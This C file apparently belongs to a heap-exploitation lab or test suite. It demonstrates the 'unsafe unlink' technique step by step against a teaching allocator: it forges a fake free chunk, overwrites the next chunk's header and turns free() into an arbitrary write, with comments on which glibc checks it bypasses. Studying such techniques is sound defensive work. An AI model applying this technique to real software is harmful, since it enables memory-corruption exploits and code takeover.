/*
 * unsafe_unlink.c - a fake free chunk whose unlinking overwrites a pointer
 * the program keeps in a global.
 *
 * When free() merges a chunk with its free neighbour it takes the neighbour
 * out of its bin: fd->bk = bk and bk->fd = fd.  Ever since these writes were
 * first abused, unlink checks that fd->bk and bk->fd both point back at the
 * chunk ("corrupted double-linked list").  The check can be met by a pointer
 * the program already holds: `chunk0_ptr`, a global that points at the fake
 * chunk.  With fd = &chunk0_ptr - 3 and bk = &chunk0_ptr - 2 words, both
 * point back through chunk0_ptr, and the two writes leave chunk0_ptr
 * pointing at itself minus 3 words.  Writing through chunk0_ptr then changes
 * chunk0_ptr, and the next write through it goes anywhere.
 *
 * How free is led to the fake chunk: a chunk's PREV_INUSE bit and prev_size
 * say whether and where the chunk before it is free.  An overflow from
 * chunk0 into chunk1's header clears the bit and sets prev_size so that the
 * "previous chunk" is the fake one inside chunk0's data.
 *
 * The fake chunk's size equals that prev_size: 2.26 added the check that a
 * chunk being unlinked has the size its successor's prev_size says
 * ("corrupted size vs. prev_size"), and 2.29 the same check when free merges
 * backwards.  Writing it costs nothing on older releases, so one program
 * tells the story from 2.23 to 2.36.  Chunks of 0x430 bytes keep the tcache
 * out of the way.
 */
#include "tests/techniques/technique.h"

static size_t *chunk0_ptr;
static size_t target;

int main(void)
{
    technique_begin("unsafe_unlink", "Free a chunk whose header says its predecessor is a fake free chunk: "
                                     "unlinking the fake chunk rewrites a pointer the program keeps.");

    chunk0_ptr = arenalloc_malloc(0x420);
    size_t *chunk1 = arenalloc_malloc(0x420);
    say("chunk0_ptr (a global at %p) = malloc(0x420) = %p; chunk1 = malloc(0x420) = %p.", (void *)&chunk0_ptr,
        (void *)chunk0_ptr, (void *)chunk1);

    /* The fake chunk starts at chunk0's user data: prev_size, size, fd, bk,
       fd_nextsize (NULL: unlink then skips the large-bin list). */
    chunk0_ptr[1] = 0x420;
    chunk0_ptr[2] = (size_t)(&chunk0_ptr - 3);
    chunk0_ptr[3] = (size_t)(&chunk0_ptr - 2);
    chunk0_ptr[4] = 0;
    say("In chunk0's data, a fake chunk of size 0x420 with fd = &chunk0_ptr - 3 words (%p) and bk = "
        "&chunk0_ptr - 2 words (%p):", (void *)(&chunk0_ptr - 3), (void *)(&chunk0_ptr - 2));
    say("fd->bk and bk->fd are both chunk0_ptr, which points at the fake chunk: unlink's check holds.");

    /* LAB(tech-unsafe_unlink) BEGIN */
    size_t *chunk1_header = chunk_header(chunk1);
    chunk1_header[0] = 0x420;
    chunk1_header[1] &= ~(size_t)1;
    /* LAB(tech-unsafe_unlink) END */
    say("An overflow of chunk0 rewrites chunk1's header: prev_size = 0x420 (back to the fake chunk), "
        "PREV_INUSE cleared.");

    arenalloc_free(chunk1);
    say("free(chunk1): the previous chunk is \"free\", so free merges backwards and unlinks the fake chunk.");
    say("chunk0_ptr is now %p, its own address minus 3 words.", (void *)chunk0_ptr);

    chunk0_ptr[3] = (size_t)&target;
    say("chunk0_ptr[3] is chunk0_ptr itself: writing &target (%p) there points chunk0_ptr at target.",
        (void *)&target);
    chunk0_ptr[0] = 0x4141414141414141;
    say("chunk0_ptr[0] = 0x4141414141414141; target now holds %#zx.", target);

    return technique_end(target == 0x4141414141414141, "a write through the unlinked pointer landed at the target");
}
